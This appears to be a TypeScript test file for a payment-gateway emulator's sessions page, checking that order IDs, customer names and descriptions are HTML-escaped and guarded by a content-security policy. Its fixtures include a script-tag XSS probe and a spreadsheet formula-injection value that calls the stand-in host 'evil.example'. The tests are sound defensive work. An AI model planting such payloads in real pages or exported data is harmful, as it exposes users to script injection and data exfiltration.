import { startVposEmulator, type VposEmulator, type VposSession } from './vpos-emulator';

const TOKEN = 'pages-token';
const SCRIPT = '<script>alert(1)</script>';
const FORMULA = '=IMPORTXML("http://evil.example","//a")';

let vpos: VposEmulator;

async function page(path: string) {
  const res = await fetch(`${vpos.url}${path}`, { headers: { accept: 'text/html' } });
  return { status: res.status, headers: res.headers, text: await res.text() };
}

beforeAll(async () => {
  vpos = await startVposEmulator({
    apiToken: TOKEN,
    webhookSecret: `whsec_${Buffer.from('0123456789abcdef0123456789abcdef').toString('base64')}`,
  });
});

afterAll(() => vpos.close());

beforeEach(() => {
  vpos.reset();
});

describe('sessions page', () => {
  it('lists a session made over the API with status and amount, escaped, linked to its checkout', async () => {
    const res = await fetch(`${vpos.url}/v1/payment-sessions`, {
      method: 'POST',
      headers: {
        authorization: `Bearer ${TOKEN}`,
        'content-type': 'application/json',
        'idempotency-key': 'pages-1',
      },
      body: JSON.stringify({
        merchantOrderId: `order-${SCRIPT}`,
        amountMinor: 1250000,
        currency: 'AMD',
        provider: 'manual',
        customer: { name: `Ani ${SCRIPT}` },
        metadata: { description: FORMULA },
      }),
    });
    expect(res.status).toBe(201);
    const session = (await res.json()) as VposSession;
    const open = await page('/_emulator/ui');
    expect(open.status).toBe(200);
    expect(open.text).toContain('>created<');

    const pay = await fetch(`${vpos.url}/checkout/${session.id}/pay`, {
      method: 'POST',
      redirect: 'manual',
    });
    expect(pay.status).toBe(303);

    const list = await page('/_emulator/ui');
    expect(list.headers.get('content-type')).toBe('text/html; charset=utf-8');
    expect(list.headers.get('content-security-policy')).toContain("default-src 'none'");
    expect(list.text).toContain('SANDBOX');
    expect(list.text).toContain(`href="/checkout/${session.id}"`);
    expect(list.text).toContain('order-&#60;script&#62;alert(1)&#60;/script&#62;');
    expect(list.text).toContain('Ani &#60;script&#62;');
    expect(list.text).toContain('=IMPORTXML(&#34;http://evil.example&#34;,&#34;//a&#34;)');
    expect(list.text).toContain('12 500.00 ֏');
    expect(list.text).toContain('<span class="won">paid</span>');
    expect(list.text).toContain('payment.paid');
    expect(list.text).not.toContain('<script>');
  });

  it('links the sessions page from the root', async () => {
    const root = await page('/');
    expect(root.status).toBe(200);
    expect(root.text).toContain('href="/_emulator/ui"');
    expect((await page('/_emulator/ui')).text).toContain('No payment sessions yet.');
  });
});
